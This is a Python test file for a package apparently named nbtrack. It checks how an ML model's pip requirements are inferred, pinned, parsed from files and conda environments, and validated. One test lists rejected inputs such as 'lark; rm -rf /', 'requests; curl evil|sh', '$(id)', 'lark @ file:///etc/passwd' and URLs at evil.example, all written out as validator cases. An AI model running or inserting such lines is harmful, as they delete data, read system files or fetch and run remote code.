"""Requirements: inferred, pinned, given, refused."""

from __future__ import annotations

import sys
from importlib import metadata

import numpy as np
import pytest

from nbtrack.errors import InvalidValueError, NbtrackWarning, NotFoundError
from nbtrack.models import requirements
from nbtrack.models.distributions import Distribution, canonical, named, of_module
from nbtrack.models.mlmodel import MLmodel
from nbtrack.models.requirement_lines import check, conda_lines, name_of, parse


def resolved(tmp_path, mlmodel=None, roots=(), **options):
    return requirements.resolve(tmp_path, mlmodel or MLmodel.new(), list(roots), **options)


def names(lines):
    return [name_of(line) for line in lines]


# -- distributions -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("module", "distribution"),
    [("sklearn.linear_model", "scikit-learn"), ("numpy._core", "numpy"), ("yaml", "pyyaml"), ("PIL.Image", "pillow")],
)
def test_a_module_leads_to_what_brought_it(module, distribution):
    found = of_module(module)
    assert found is not None
    assert canonical(found.name) == distribution
    assert found.pin == f"{found.name}=={metadata.version(distribution)}"


@pytest.mark.parametrize("module", ["json", "os.path", "no_such_module", "sys"])
def test_pythons_own_modules_and_unknown_ones_have_no_distribution(module):
    assert of_module(module) is None


def test_required_names_are_read_without_extras():
    found = named("scikit_learn")
    assert found is not None
    assert {"numpy", "scipy", "joblib"} <= set(found.requires)
    assert "pytest" not in found.requires


def test_a_local_label_is_left_out_of_a_pin(tmp_path):
    info = tmp_path / "torch-2.13.0+cpu.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Name: torch\nVersion: 2.13.0+cpu\n\nVersion: 9\n")
    assert Distribution(info).pin == "torch==2.13.0"


def test_a_project_that_is_installed_as_editable_is_found(tmp_path, monkeypatch):
    site, project = tmp_path / "site", tmp_path / "my project"
    (project / "mine").mkdir(parents=True)
    (project / "mine" / "__init__.py").write_text("")
    info = site / "mine_too-0.3.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Name: mine-too\nVersion: 0.3\n\n")
    (info / "RECORD").write_text("__editable__.pth,,\n")
    (info / "direct_url.json").write_text(f'{{"url": "{project.as_uri()}", "dir_info": {{"editable": true}}}}')
    monkeypatch.setattr(sys, "path", [str(site), str(project), *sys.path])
    found = of_module("mine")
    assert found is not None
    assert found.pin == "mine-too==0.3"


# -- inferring -----------------------------------------------------------------------------------------------------------


def test_roots_bring_the_numeric_packages_that_they_use(tmp_path):
    assert np.__version__
    lines, constraints, conda = resolved(tmp_path, roots=["scikit-learn"])
    assert lines[0].startswith("mlflow==")
    assert {"numpy", "scikit-learn", "scipy"} >= set(names(lines[1:])) >= {"numpy", "scikit-learn"}
    assert all("==" in line for line in lines)
    assert (constraints, conda) == ([], None)


def test_named_columns_need_pandas(tmp_path):
    mlmodel = MLmodel.new()
    mlmodel.signature = {"inputs": '[{"type": "double", "name": "x"}]', "outputs": None, "params": None}
    assert "pandas" in names(resolved(tmp_path, mlmodel)[0])


def test_what_is_not_installed_is_named_without_a_version(tmp_path):
    assert "no-such-thing" in resolved(tmp_path, roots=["no-such-thing"])[0]


def test_the_users_own_line_stands_for_an_inferred_one(tmp_path):
    lines, *_ = resolved(tmp_path, roots=["scikit-learn"], extra_pip_requirements=["scikit_learn>=1", "lark"])
    assert [line for line in lines if name_of(line) == "scikit-learn"] == ["scikit_learn>=1"]
    assert lines[-1] == "lark"


def test_given_requirements_are_all_there_is_but_for_mlflow(tmp_path):
    assert resolved(tmp_path, roots=["numpy"], pip_requirements=["lark==1"])[0][1:] == ["lark==1"]
    assert resolved(tmp_path, pip_requirements=["mlflow-skinny", "lark"])[0] == ["mlflow-skinny", "lark"]
    assert resolved(tmp_path, pip_requirements=[])[0][0].startswith("mlflow==")


def test_a_module_that_nobody_installed_is_warned_of_and_followed(tmp_path, monkeypatch):
    (tmp_path / "lonely_part.py").write_text("import lonely_other\nimport yaml\n")
    (tmp_path / "lonely_other.py").write_text("import lonely_part\n")
    monkeypatch.syspath_prepend(tmp_path)
    needs = requirements.needs_of({"lonely_part"})
    assert set(needs.modules) == {"lonely_part", "lonely_other"}
    assert set(needs.distributions) == {"pyyaml"}
    assert not requirements.needs_of({"lonely_part"}, without=["lonely_part"]).modules
    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "main.py").write_text("import lonely_part")
    mlmodel = MLmodel.new()
    mlmodel.flavors = {"python_function": {"model_code_path": "main.py"}}
    with pytest.warns(NbtrackWarning, match="lonely_other.*code_paths="):
        lines, *_ = resolved(folder, mlmodel)
    assert "pyyaml" in names(lines)


# -- lines ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "lark",
        "scikit-learn==1.9.1",
        "torch==2.13.0+cpu",
        'torch>=2,<3; python_version < "4"',
        "ray[tune]~=2.0",
        "lark==1 --hash=sha256:ab",
    ],
)
def test_a_requirement_is_taken_as_it_stands(line):
    assert check(line) == line


@pytest.mark.parametrize(
    "line",
    [
        "-e .",
        "--editable=.",
        "-i https://evil.example",
        "--extra-index-url https://evil.example",
        "lark @ https://evil.example/lark.whl",
        "lark @ file:///etc/passwd",
        "git+https://evil.example/x",
        "https://evil.example/x.whl",
        "./local.whl",
        "lark; rm -rf /",
        "lark | sh",
        "$(id)",
        "`id`",
        "lark\n-e .",
        "lark\x00",
        "",
        "requests; curl evil|sh",
    ],
)
def test_everything_else_is_refused(line):
    with pytest.raises(InvalidValueError, match="Requirement"):
        check(line)


def test_the_users_own_lines_may_say_where_to_look():
    assert parse(["--extra-index-url https://pypi.example", "mine @ https://pypi.example/mine-1.whl"])[0]
    for line in ("-e .", "--target /", "--global-option=x", "--pre -e ."):
        with pytest.raises(InvalidValueError, match="option of pip"):
            parse([line])


def test_files_are_followed_and_constraints_told_apart(tmp_path):
    (tmp_path / "more.txt").write_text("numpy>=1 # why\n\n# nothing\nlark==\\\n1\n-c bounds.txt\n")
    (tmp_path / "bounds.txt").write_text("scipy<9\n")
    (tmp_path / "all.txt").write_text("-r more.txt\nnumpy>=1\n")
    assert parse(str(tmp_path / "all.txt")) == (["numpy>=1", "lark== 1"], ["scipy<9"])


def test_files_that_name_themselves_come_to_an_end(tmp_path):
    (tmp_path / "all.txt").write_text("-r all.txt\n")
    with pytest.raises(InvalidValueError, match="themselves"):
        parse(str(tmp_path / "all.txt"))


def test_a_file_that_is_not_there_is_named(tmp_path):
    with pytest.raises(NotFoundError, match=r"nowhere\.txt"):
        parse(str(tmp_path / "nowhere.txt"))


def test_a_list_of_something_else_is_refused():
    with pytest.raises(InvalidValueError, match="int"):
        parse([3])  # type: ignore[list-item]


def test_the_pip_part_of_a_conda_environment_is_what_is_required(tmp_path):
    conda = {"name": "x", "dependencies": ["python=3.11", {"pip": ["lark==1", "# no", "numpy"]}]}
    assert conda_lines(conda) == (["lark==1", "numpy"], conda)
    (tmp_path / "conda.yaml").write_text("dependencies: [pip, {pip: [lark]}]\n")
    lines, _, found = resolved(tmp_path, conda_env=str(tmp_path / "conda.yaml"))
    assert lines[1:] == ["lark"]
    assert found == {"dependencies": ["pip", {"pip": ["lark"]}]}
    with pytest.raises(InvalidValueError, match="not both"):
        resolved(tmp_path, conda_env=conda, pip_requirements=["lark"])
    with pytest.raises(InvalidValueError, match="list"):
        conda_lines({"dependencies": "lark"})
